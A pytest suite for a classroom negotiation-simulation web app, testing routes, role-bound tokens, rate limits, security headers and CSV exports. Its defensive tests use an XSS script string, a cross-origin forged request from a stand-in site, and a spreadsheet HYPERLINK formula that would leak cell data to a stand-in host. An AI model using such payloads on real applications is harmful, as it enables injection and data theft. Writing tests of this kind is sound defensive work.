"""The classroom web app over HTTP: every route, and what a student's token can and cannot do."""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path

import pytest

from sim.classroom.app import INSTRUCTOR_COOKIE, MAX_BODY, STUDENT_COOKIE, create_app
from sim.classroom.store import Store
from sim.scenario import load_scenario
from tests.optional import require

testclient = require("starlette.testclient", reason="pip install httpx")

ROOT = Path(__file__).resolve().parent.parent
BASELINE = ROOT / "scenarios" / "baseline_nov2020.toml"
TOKEN = "instructor-token-for-tests-0123456789"


@pytest.fixture
def app(tmp_path: Path) -> Iterator[tuple[object, Store]]:
    scenario = load_scenario(BASELINE)
    store = Store(tmp_path / "c.sqlite", scenario, "test-hash")
    application = create_app(store, scenario, TOKEN, rate=1000, burst=1000, tick_seconds=0.05)
    yield application, store
    store.close()


def client(app: object) -> object:
    return testclient.TestClient(app, base_url="http://testserver", follow_redirects=False)


def instructor(app: object) -> object:
    browser = client(app)
    response = browser.get(f"/instructor/login?token={TOKEN}")  # type: ignore[attr-defined]
    assert response.status_code == 303 and INSTRUCTOR_COOKIE in response.cookies
    return browser


def new_session(teacher: object, **form: str) -> str:
    response = teacher.post(  # type: ignore[attr-defined]
        "/instructor/sessions", data={"worlds": "1", "stage_seconds": "", **form}
    )
    assert response.status_code == 303
    return str(response.headers["location"]).rsplit("/", 1)[1]


def join(app: object, code: str, name: str) -> object:
    student = client(app)
    response = student.post("/join", data={"code": code, "pseudonym": name})  # type: ignore[attr-defined]
    assert response.status_code == 303, response.text
    assert STUDENT_COOKIE in response.cookies
    return student


def code_of(teacher: object, sid: str) -> str:
    page = teacher.get(f"/instructor/session/{sid}").text  # type: ignore[attr-defined]
    found = re.search(r'<p class="code">(\w+)</p>', page)
    assert found
    return found.group(1)


def test_every_route_answers(app: tuple[object, Store]) -> None:
    application, store = app
    teacher = instructor(application)
    anonymous = client(application)
    assert anonymous.get("/healthz").json() == {"ok": True}  # type: ignore[attr-defined]
    home = anonymous.get("/?code=ABC")  # type: ignore[attr-defined]
    assert home.status_code == 200 and 'value="ABC"' in home.text
    for path in ("/play", "/briefing", "/background"):
        assert anonymous.get(path).headers["location"] == "/"  # type: ignore[attr-defined]
    assert anonymous.get("/play/version").status_code == 403  # type: ignore[attr-defined]
    sid = new_session(teacher)
    code = code_of(teacher, sid)
    bad = anonymous.post("/join", data={"code": "ZZZZZZ", "pseudonym": "x"})  # type: ignore[attr-defined]
    assert bad.status_code == 400 and "No open session" in bad.text
    ana, bo, chen = (join(application, code, name) for name in ("Ana", "Bo", "Chen"))
    taken = anonymous.post("/join", data={"code": code, "pseudonym": "ana"})  # type: ignore[attr-defined]
    assert taken.status_code == 400 and "is taken" in taken.text
    assert "You are" in ana.get("/play").text  # type: ignore[attr-defined]
    assert ana.get("/").headers["location"] == "/play"  # type: ignore[attr-defined]
    assert "Public background" in ana.get("/background").text  # type: ignore[attr-defined]
    assert ana.get("/play/version").json()["version"] > 0  # type: ignore[attr-defined]
    for action in ("start", "pause"):
        response = teacher.post(f"/instructor/session/{sid}/{action}")  # type: ignore[attr-defined]
        assert response.status_code == 303, (action, response.text)
    paused = ana.get("/play").text  # type: ignore[attr-defined]
    assert "Paused by the instructor" in paused and "Send your sealed order" not in paused
    refused = ana.post(
        "/play/order", data={"move": "mediation", "action": "stay_out", "round": "1"}
    )  # type: ignore[attr-defined]
    assert refused.status_code == 400 and 'href="/play">Back' in refused.text
    for action in ("resume", "extend"):
        response = teacher.post(f"/instructor/session/{sid}/{action}")  # type: ignore[attr-defined]
        assert response.status_code == 303, (action, response.text)
    assert "Send your sealed order" in ana.get("/play").text  # type: ignore[attr-defined]
    assert teacher.post(f"/instructor/session/{sid}/nope").status_code == 404  # type: ignore[attr-defined]
    changed = teacher.post(  # type: ignore[attr-defined]
        f"/instructor/session/{sid}/parameter",
        data={"name": "us_alliance_priority", "value": "1.2"},
    )
    assert changed.status_code == 303
    wrong = teacher.post(  # type: ignore[attr-defined]
        f"/instructor/session/{sid}/parameter", data={"name": "rho", "value": "1"}
    )
    assert wrong.status_code == 400 and "no parameter called" in wrong.text
    assert f'href="/instructor/session/{sid}">Back' in wrong.text
    order = ana.post("/play/order", data={"move": "mediation", "action": "stay_out", "round": "1"})  # type: ignore[attr-defined]
    assert order.status_code == 303
    session = store.sessions[sid]
    for _ in range(4):  # each close lets bots decide the open stage; students' stages follow
        assert teacher.post(f"/instructor/session/{sid}/close").status_code == 303  # type: ignore[attr-defined]
    assert session.current(0).finished  # type: ignore[union-attr]
    dashboard = teacher.get(f"/instructor/session/{sid}").text  # type: ignore[attr-defined]
    assert code in dashboard and "data:image/svg+xml" in dashboard and "finished:" in dashboard
    assert teacher.get(f"/instructor/session/{sid}/version").json()["version"] == session.version  # type: ignore[attr-defined]
    projector = teacher.get(f"/instructor/session/{sid}/projector").text  # type: ignore[attr-defined]
    assert "1 of 1 world finished" in projector and "Ana" not in projector
    debrief = teacher.get(  # type: ignore[attr-defined]
        f"/instructor/session/{sid}/debrief?name=us_alliance_priority&value=1.5"
    ).text
    assert "Round 1, at the scenario&#x27;s own values: 1 finished play" in debrief
    assert "What if us_alliance_priority = 1.5?" in debrief
    assert '<img src="data:image/png;base64,' in debrief and 'alt="The game tree' in debrief
    log = teacher.get(f"/instructor/session/{sid}/log").text  # type: ignore[attr-defined]
    assert "Ana joins as Washington in world 1" in log
    assert "Washington stays out (sealed); by Ana" in log and "round 1 starts" in log
    pdf = teacher.get(f"/instructor/session/{sid}/debrief.pdf")  # type: ignore[attr-defined]
    assert pdf.headers["content-type"] == "application/pdf" and pdf.content[:5] == b"%PDF-"
    odd = teacher.get(f"/instructor/session/{sid}/debrief?name=<b>&value=1").text  # type: ignore[attr-defined]
    assert "<b>" not in odd.split("</form>", 1)[1] and "no parameter called" in odd
    moves = teacher.get(f"/instructor/session/{sid}/moves.csv")  # type: ignore[attr-defined]
    assert moves.headers["content-type"].startswith("text/csv")
    lines = moves.text.splitlines()
    assert lines[0] == "pseudonym,role,world,round,move,action,decided_by,time_utc,payoff"
    assert lines[1].startswith("Ana,washington,1,1,mediation,stay_out,student,")
    anonymised = teacher.get(f"/instructor/session/{sid}/anonymised.csv").text  # type: ignore[attr-defined]
    assert all(name not in anonymised for name in ("Ana", "Bo", "Chen"))
    first = anonymised.splitlines()[1]
    assert re.fullmatch(r"s[0-9a-f]{8},washington,1,1,mediation,stay_out,student,.*", first)
    assert "Tokyo: private briefing" in teacher.get("/instructor/briefing/tokyo").text  # type: ignore[attr-defined]
    assert teacher.get("/instructor/briefing/nobody").status_code == 404  # type: ignore[attr-defined]
    assert teacher.get("/instructor/session/nosuch").status_code == 400  # type: ignore[attr-defined]
    assert teacher.get("/instructor").status_code == 200  # type: ignore[attr-defined]
    bo_id = next(p.id for p in session.participants.values() if p.pseudonym == "Bo")
    moved = teacher.post(  # type: ignore[attr-defined]
        f"/instructor/session/{sid}/move",
        data={"participant": bo_id, "world": "1", "role": "tokyo"},
    )
    assert moved.status_code == 303 and session.participants[bo_id].role == "tokyo"
    bad_world = teacher.post(  # type: ignore[attr-defined]
        f"/instructor/session/{sid}/move",
        data={"participant": bo_id, "world": "x", "role": "tokyo"},
    )
    assert bad_world.status_code == 400 and "whole number" in bad_world.text
    removed = teacher.post(f"/instructor/session/{sid}/remove", data={"participant": bo_id})  # type: ignore[attr-defined]
    assert removed.status_code == 303 and bo.get("/play").headers["location"] == "/"  # type: ignore[attr-defined]
    assert teacher.post(f"/instructor/session/{sid}/end").status_code == 303  # type: ignore[attr-defined]
    assert store.by_code(code) is None
    del chen


def test_a_students_token_is_bound_to_one_role_in_one_world(app: tuple[object, Store]) -> None:
    application, store = app
    teacher = instructor(application)
    sid = new_session(teacher)
    code = code_of(teacher, sid)
    washington, seoul = join(application, code, "W"), join(application, code, "S")
    # A briefing is the holder's own: the route takes no role to ask for another one.
    own = seoul.get("/briefing").text  # type: ignore[attr-defined]
    assert "Seoul: private briefing" in own and "Washington: private briefing" not in own
    assert seoul.get("/briefing?role=washington").text == own  # type: ignore[attr-defined]
    assert seoul.get("/instructor/briefing/washington").status_code == 403  # type: ignore[attr-defined]
    teacher.post(f"/instructor/session/{sid}/start")  # type: ignore[attr-defined]
    # Seoul cannot order Washington's move, nor pass as Washington by naming it.
    for data in (
        {"move": "mediation", "action": "stay_out", "round": "1"},
        {"move": "mediation", "action": "stay_out", "round": "1", "role": "washington"},
    ):
        refused = seoul.post("/play/order", data=data)  # type: ignore[attr-defined]
        assert refused.status_code == 400 and "another role" in refused.text
    assert store.sessions[sid].current(0).orders == {}  # type: ignore[union-attr]
    stale = washington.post(  # type: ignore[attr-defined]
        "/play/order", data={"move": "mediation", "action": "stay_out", "round": "0"}
    )
    assert stale.status_code == 400 and "earlier round" in stale.text
    # The instructor's actions need the instructor's token.
    for browser in (seoul, client(application)):
        assert browser.get(f"/instructor/session/{sid}").status_code == 403  # type: ignore[attr-defined]
        assert browser.post(f"/instructor/session/{sid}/start").status_code == 403  # type: ignore[attr-defined]
        assert browser.get(f"/instructor/session/{sid}/moves.csv").status_code == 403  # type: ignore[attr-defined]
        assert browser.post("/instructor/sessions", data={"worlds": "1"}).status_code == 403  # type: ignore[attr-defined]
    assert client(application).get("/instructor/login?token=guess").status_code == 403  # type: ignore[attr-defined]
    forged = client(application)
    forged.cookies.set(STUDENT_COOKIE, "forged-token")  # type: ignore[attr-defined]
    assert forged.get("/play").headers["location"] == "/"  # type: ignore[attr-defined]


def test_requests_are_checked_and_pages_are_locked_down(app: tuple[object, Store]) -> None:
    application, store = app
    teacher = instructor(application)
    sid = new_session(teacher)
    code = code_of(teacher, sid)
    join(application, code, "<script>alert(1)</script>")
    page = teacher.get(f"/instructor/session/{sid}").text  # type: ignore[attr-defined]
    assert "<script>alert(1)</script>" not in page and "&lt;script&gt;alert(1)" in page
    headers = teacher.get("/").headers  # type: ignore[attr-defined]
    assert "script-src 'self'" in headers["content-security-policy"]
    assert headers["x-content-type-options"] == "nosniff" and headers["cache-control"] == "no-store"
    # Another site's form cannot act for the instructor.
    crossed = teacher.post(  # type: ignore[attr-defined]
        f"/instructor/session/{sid}/start", headers={"Origin": "http://evil.example"}
    )
    assert crossed.status_code == 403 and store.sessions[sid].round == 0
    big = client(application).post("/join", content=b"x" * (MAX_BODY + 1))  # type: ignore[attr-defined]
    assert big.status_code == 413
    for name in ("", " ", "x" * 41, "nul\x00byte"):
        refused = client(application).post("/join", data={"code": code, "pseudonym": name})  # type: ignore[attr-defined]
        assert refused.status_code == 400


def test_clients_are_rate_limited(tmp_path: Path) -> None:
    scenario = load_scenario(BASELINE)
    store = Store(tmp_path / "c.sqlite", scenario, "test-hash")
    application = create_app(store, scenario, TOKEN, rate=0.001, burst=2)
    teacher = instructor(application)  # one request by address (no token yet)
    codes = [teacher.get("/instructor").status_code for _ in range(3)]  # type: ignore[attr-defined]
    assert codes == [200, 200, 429]  # a token's own bucket: the burst of 2
    browser = client(application)
    codes = [browser.get("/").status_code for _ in range(10)]  # type: ignore[attr-defined]
    assert codes[:9] == [200] * 9 and codes[9:] == [429]  # by address: 5 x 2, less the login
    store.close()


def test_made_up_tokens_do_not_escape_the_rate_limit(tmp_path: Path) -> None:
    scenario = load_scenario(BASELINE)
    store = Store(tmp_path / "c.sqlite", scenario, "test-hash")
    application = create_app(store, scenario, TOKEN, rate=0.001, burst=2)
    codes = []
    for k in range(12):
        browser = client(application)
        browser.cookies.set(STUDENT_COOKIE, f"made-up-{k}")  # type: ignore[attr-defined]
        codes.append(browser.get("/").status_code)  # type: ignore[attr-defined]
    assert codes.count(429) == 2  # counted by address (5 x 2), not one bucket per cookie
    store.close()


def test_exports_cannot_carry_formulas_and_the_join_address_is_the_public_one(
    tmp_path: Path,
) -> None:
    scenario = load_scenario(BASELINE)
    store = Store(tmp_path / "c.sqlite", scenario, "test-hash")
    application = create_app(
        store, scenario, TOKEN, rate=1000, burst=1000, public_base="http://192.0.2.2:8000/"
    )
    teacher = instructor(application)
    sid = new_session(teacher)
    code = code_of(teacher, sid)
    page = teacher.get(f"/instructor/session/{sid}").text  # type: ignore[attr-defined]
    assert f"http://192.0.2.2:8000/?code={code}" in page
    formula = '=HYPERLINK("http://x.test/?"&A1,"ok")'
    student = join(application, code, formula)
    teacher.post(f"/instructor/session/{sid}/start")  # type: ignore[attr-defined]
    student.post(  # type: ignore[attr-defined]
        "/play/order", data={"move": "mediation", "action": "stay_out", "round": "1"}
    )
    rows = teacher.get(f"/instructor/session/{sid}/moves.csv").text.splitlines()  # type: ignore[attr-defined]
    assert rows[1].startswith("\"'=HYPERLINK(")  # quoted by csv, defused by the apostrophe
    bad = teacher.post(  # type: ignore[attr-defined]
        "/instructor/sessions", data={"worlds": "1", "bots": "qre", "lam": "nan"}
    )
    assert bad.status_code == 400 and "lambda" in bad.text
    store.close()
